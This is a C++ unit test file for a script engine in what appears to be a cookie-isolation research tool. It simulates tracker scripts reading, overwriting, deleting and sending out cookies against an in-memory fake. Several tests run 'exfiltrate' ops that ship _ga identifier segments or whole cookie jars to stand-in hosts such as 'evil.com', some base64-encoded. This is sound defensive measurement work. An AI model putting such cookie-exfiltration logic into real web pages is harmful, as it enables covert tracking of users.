// Unit tests for the script engine: template expansion, cookie-string
// parsing, identifier extraction, encodings, and op interpretation against a
// fake PageServices.
#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

#include "crypto/base64.h"
#include "crypto/md5.h"
#include "script/interpreter.h"
#include "script/ops.h"
#include "script/rng.h"
#include "webplat/dom.h"

namespace cg::script {
namespace {

// ---------------------------------------------------------- templates ----

TEST(TemplateTest, ExpandsTimestamps) {
  Rng rng(1);
  EXPECT_EQ(expand_template("t={ts}", rng, 1746838827000),
            "t=1746838827");
  EXPECT_EQ(expand_template("t={ts_ms}", rng, 1746838827000),
            "t=1746838827000");
}

TEST(TemplateTest, ExpandsRandomDigitsAndHex) {
  Rng rng(2);
  const auto digits = expand_template("{rand:9}", rng, 0);
  EXPECT_EQ(digits.size(), 9u);
  EXPECT_NE(digits[0], '0');  // tracker ids avoid leading zeros
  const auto hex = expand_template("{hex:16}", rng, 0);
  EXPECT_EQ(hex.size(), 16u);
  EXPECT_EQ(hex.find_first_not_of("0123456789abcdef"), std::string::npos);
}

TEST(TemplateTest, MixedTemplateLikeGa) {
  Rng rng(3);
  const auto value = expand_template("GA1.1.{rand:9}.{ts}", rng, 1746000000000);
  EXPECT_TRUE(value.starts_with("GA1.1."));
  EXPECT_TRUE(value.ends_with(".1746000000"));
}

TEST(TemplateTest, UnknownPlaceholderKeptVerbatim) {
  Rng rng(4);
  EXPECT_EQ(expand_template("x={nope}", rng, 0), "x={nope}");
}

TEST(TemplateTest, UnterminatedBraceKept) {
  Rng rng(5);
  EXPECT_EQ(expand_template("x={ts", rng, 0), "x={ts");
}

TEST(TemplateTest, DeterministicGivenSameRngState) {
  Rng a(42), b(42);
  EXPECT_EQ(expand_template("{hex:32}", a, 0), expand_template("{hex:32}", b, 0));
}

// ------------------------------------------------------- cookie string ----

TEST(CookieStringTest, ParsesPairs) {
  const auto jar = parse_cookie_string("_ga=GA1.1.1; _fbp=fb.1.2; flag");
  ASSERT_EQ(jar.size(), 3u);
  EXPECT_EQ(jar[0].name, "_ga");
  EXPECT_EQ(jar[0].value, "GA1.1.1");
  EXPECT_EQ(jar[2].name, "flag");
  EXPECT_EQ(jar[2].value, "");
}

TEST(CookieStringTest, EmptyString) {
  EXPECT_TRUE(parse_cookie_string("").empty());
}

TEST(CookieStringTest, ValueWithEquals) {
  const auto jar = parse_cookie_string("k=a=b");
  ASSERT_EQ(jar.size(), 1u);
  EXPECT_EQ(jar[0].value, "a=b");
}

// ------------------------------------------------ identifier extraction ----

TEST(IdentifierTest, SplitsOnNonAlnumAndKeepsLongSegments) {
  // The paper's _ga example: GA1.1.444332364.1746838827 (§4.3).
  const auto segments =
      extract_identifier_segments("GA1.1.444332364.1746838827");
  ASSERT_EQ(segments.size(), 2u);
  EXPECT_EQ(segments[0], "444332364");
  EXPECT_EQ(segments[1], "1746838827");
}

TEST(IdentifierTest, FbpExample) {
  // §5.4: fb.0.1746746266109.868308499845957651.
  const auto segments =
      extract_identifier_segments("fb.0.1746746266109.868308499845957651");
  ASSERT_EQ(segments.size(), 2u);
  EXPECT_EQ(segments[0], "1746746266109");
  EXPECT_EQ(segments[1], "868308499845957651");
}

TEST(IdentifierTest, ShortSegmentsDropped) {
  EXPECT_TRUE(extract_identifier_segments("light").empty());
  EXPECT_TRUE(extract_identifier_segments("a.b.c.1234567").empty());
}

TEST(IdentifierTest, WholeValueWithoutDelimiters) {
  const auto segments = extract_identifier_segments("deadbeefcafe1234");
  ASSERT_EQ(segments.size(), 1u);
  EXPECT_EQ(segments[0], "deadbeefcafe1234");
}

TEST(IdentifierTest, CustomMinLength) {
  EXPECT_EQ(extract_identifier_segments("abc.def", 3).size(), 2u);
}

// ----------------------------------------------------------- encodings ----

TEST(EncodeIdentifierTest, AllEncodings) {
  const std::string id = "444332364";
  EXPECT_EQ(encode_identifier(id, Encoding::kRaw), id);
  EXPECT_EQ(encode_identifier(id, Encoding::kBase64),
            crypto::base64_encode(id));
  EXPECT_EQ(encode_identifier(id, Encoding::kBase64Url),
            crypto::base64url_encode(id));
  EXPECT_EQ(encode_identifier(id, Encoding::kMd5), crypto::Md5::hex(id));
  EXPECT_EQ(encode_identifier(id, Encoding::kSha1).size(), 40u);
}

// -------------------------------------------------------- interpreter ----

/// In-memory PageServices capturing every call.
class FakeServices final : public PageServices {
 public:
  const std::vector<CookiePair>& document_cookie_pairs(
      const ExecContext&) override {
    ++reads;
    pairs = parse_cookie_string(jar_string);
    return pairs;
  }
  void document_cookie_write(const ExecContext&,
                             std::string_view line) override {
    writes.emplace_back(line);
  }
  void cookie_store_get_all(
      const ExecContext&,
      std::function<void(std::vector<StoreCookie>)> cb) override {
    ++store_reads;
    std::vector<StoreCookie> cookies;
    for (const auto& c : parse_cookie_string(jar_string)) {
      cookies.push_back({std::string(c.name), std::string(c.value)});
    }
    cb(std::move(cookies));
  }
  void cookie_store_get(
      const ExecContext&, std::string_view name,
      std::function<void(std::optional<StoreCookie>)> cb) override {
    ++store_gets;
    for (const auto& c : parse_cookie_string(jar_string)) {
      if (c.name == name) {
        cb(StoreCookie{std::string(c.name), std::string(c.value)});
        return;
      }
    }
    cb(std::nullopt);
  }
  void cookie_store_set(const ExecContext&, std::string_view name,
                        std::string_view value) override {
    store_sets.emplace_back(std::string(name) + "=" + std::string(value));
  }
  void cookie_store_delete(const ExecContext&,
                           std::string_view name) override {
    store_deletes.emplace_back(name);
  }
  void send_request(const ExecContext&, const net::Url& url) override {
    requests.push_back(url.spec());
  }
  void inject_script(const ExecContext&, std::string_view id) override {
    injected.emplace_back(id);
  }
  void set_timeout(const ExecContext&, TimeMillis delay,
                   std::function<void()> cb, std::string_view helper) override {
    timeouts.push_back({delay, std::string(helper)});
    cb();  // run inline for testing
  }
  webplat::Document& main_document() override { return doc; }
  TimeMillis now() const override { return 1746838827000; }
  Rng& rng() override { return rng_; }

  std::string jar_string;
  std::vector<CookiePair> pairs;  // views into jar_string
  int reads = 0;
  int store_reads = 0;
  int store_gets = 0;
  std::vector<std::string> writes, store_sets, store_deletes, requests,
      injected;
  std::vector<std::pair<TimeMillis, std::string>> timeouts;
  webplat::Document doc{net::Url::must_parse("https://example.com/")};
  Rng rng_{7};
};

ExecContext tracker_ctx() {
  ExecContext ctx;
  ctx.script_id = "tracker";
  ctx.script_url = "https://cdn.tracker.com/t.js";
  ctx.script_domain = "tracker.com";
  ctx.category = Category::kAdvertising;
  return ctx;
}

TEST(InterpreterTest, SetCookieWritesNameValueAndAttributes) {
  FakeServices services;
  run_program({set_cookie("_t", "{hex:8}", "; Path=/; Max-Age=60",
                          /*only_if_missing=*/false)},
              tracker_ctx(), services);
  ASSERT_EQ(services.writes.size(), 1u);
  EXPECT_TRUE(services.writes[0].starts_with("_t="));
  EXPECT_TRUE(services.writes[0].ends_with("; Path=/; Max-Age=60"));
}

TEST(InterpreterTest, OnlyIfMissingSkipsWhenPresent) {
  FakeServices services;
  services.jar_string = "_t=existing";
  run_program({set_cookie("_t", "{hex:8}")}, tracker_ctx(), services);
  EXPECT_TRUE(services.writes.empty());
  EXPECT_EQ(services.reads, 1);  // it checked the jar first
}

TEST(InterpreterTest, OverwriteOnlyTouchesVisibleTargets) {
  FakeServices services;
  services.jar_string = "_fbp=fb.1.1.2";
  run_program({overwrite({"_fbp", "_missing"}, "{hex:8}")}, tracker_ctx(),
              services);
  ASSERT_EQ(services.writes.size(), 1u);
  EXPECT_TRUE(services.writes[0].starts_with("_fbp="));
}

TEST(InterpreterTest, DeleteWritesPastExpiry) {
  FakeServices services;
  services.jar_string = "_uetvid=abc";
  run_program({delete_cookies({"_uetvid"})}, tracker_ctx(), services);
  ASSERT_EQ(services.writes.size(), 1u);
  EXPECT_NE(services.writes[0].find("Expires=Thu, 01 Jan 1970"),
            std::string::npos);
}

TEST(InterpreterTest, DeleteSkipsInvisibleCookies) {
  FakeServices services;
  services.jar_string = "";  // CookieGuard-filtered view
  run_program({delete_cookies({"_uetvid"})}, tracker_ctx(), services);
  EXPECT_TRUE(services.writes.empty());
}

TEST(InterpreterTest, ExfiltrateEmbedsIdentifierSegmentsInQuery) {
  FakeServices services;
  services.jar_string = "_ga=GA1.1.444332364.1746838827";
  run_program({exfiltrate({"_ga"}, "evil.com")}, tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_TRUE(services.requests[0].starts_with("https://evil.com/collect?"));
  EXPECT_NE(services.requests[0].find("444332364"), std::string::npos);
  EXPECT_NE(services.requests[0].find("1746838827"), std::string::npos);
}

TEST(InterpreterTest, ExfiltrateBase64EncodesLikeLinkedIn) {
  FakeServices services;
  services.jar_string = "_ga=GA1.1.444332364.1746838827";
  run_program({exfiltrate({"_ga"}, "px.ads.linkedin.com", Encoding::kBase64)},
              tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  // §5.4: 444332364 -> NDQ0MzMyMzY0
  EXPECT_NE(services.requests[0].find("NDQ0MzMyMzY0"), std::string::npos);
}

TEST(InterpreterTest, ExfiltrateNothingVisibleSendsNoRequest) {
  FakeServices services;
  services.jar_string = "";  // isolation hides everything
  run_program({exfiltrate({"_ga"}, "evil.com")}, tracker_ctx(), services);
  EXPECT_TRUE(services.requests.empty());
}

TEST(InterpreterTest, ExfiltrateWholeJar) {
  FakeServices services;
  services.jar_string = "a=aaaaaaaaaa1; b=bbbbbbbbbb2; short=x";
  run_program({exfiltrate_jar("bidder.com")}, tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_NE(services.requests[0].find("aaaaaaaaaa1"), std::string::npos);
  EXPECT_NE(services.requests[0].find("bbbbbbbbbb2"), std::string::npos);
  // "x" is too short to be an identifier: not shipped.
  EXPECT_EQ(services.requests[0].find("short="), std::string::npos);
}

TEST(InterpreterTest, StoreOpsGoThroughStoreApi) {
  FakeServices services;
  run_program({store_set_cookie("keep_alive", "{hex:12}"), store_get_all(),
               store_delete("keep_alive")},
              tracker_ctx(), services);
  ASSERT_EQ(services.store_sets.size(), 1u);
  EXPECT_TRUE(services.store_sets[0].starts_with("keep_alive="));
  EXPECT_EQ(services.store_reads, 1);
  ASSERT_EQ(services.store_deletes.size(), 1u);
}

TEST(InterpreterTest, InjectAndBeacon) {
  FakeServices services;
  run_program({inject("child-script"), beacon("px.t.com", "/p")},
              tracker_ctx(), services);
  ASSERT_EQ(services.injected.size(), 1u);
  EXPECT_EQ(services.injected[0], "child-script");
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_TRUE(services.requests[0].starts_with("https://px.t.com/p?t="));
}

TEST(InterpreterTest, AsyncRunsNestedOpsThroughTimeout) {
  FakeServices services;
  services.jar_string = "_ga=GA1.1.123456789.1746838827";
  run_program({run_async(800, {exfiltrate({"_ga"}, "late.com")},
                         "https://cdn.helper.com/h.js")},
              tracker_ctx(), services);
  ASSERT_EQ(services.timeouts.size(), 1u);
  EXPECT_EQ(services.timeouts[0].first, 800);
  EXPECT_EQ(services.timeouts[0].second, "https://cdn.helper.com/h.js");
  EXPECT_EQ(services.requests.size(), 1u);  // nested op executed
}

TEST(InterpreterTest, DomOpsCreateAndModify) {
  FakeServices services;
  auto& foreign = services.doc.create_element("div", "example.com");
  services.doc.append_child(services.doc.body(), foreign, "example.com");

  run_program({create_dom("div"), modify_dom("div")}, tracker_ctx(),
              services);
  // One node created by tracker.com and the foreign div's text modified.
  bool tracker_created = false;
  for (auto* node : services.doc.elements_by_tag("div")) {
    if (node->creator_domain() == "tracker.com") tracker_created = true;
  }
  EXPECT_TRUE(tracker_created);
  EXPECT_EQ(foreign.text(), "modified");
}

TEST(InterpreterTest, SiteHostPlaceholderInDestination) {
  FakeServices services;
  services.jar_string = "own=deadbeefdeadbeef";
  run_program({exfiltrate({"own"}, "{site}", Encoding::kRaw, "/api/t")},
              tracker_ctx(), services);
  ASSERT_EQ(services.requests.size(), 1u);
  EXPECT_TRUE(services.requests[0].starts_with("https://example.com/api/t?"));
}

}  // namespace
}  // namespace cg::script

// Appended: cookieStore.get(name) op coverage.
namespace cg::script {
namespace {

TEST(InterpreterTest, StoreGetResolvesSingleCookie) {
  FakeServices services;
  services.jar_string = "keep_alive=abc123def456; other=x";
  run_program({store_get("keep_alive")}, tracker_ctx(), services);
  EXPECT_EQ(services.store_gets, 1);
}

}  // namespace
}  // namespace cg::script
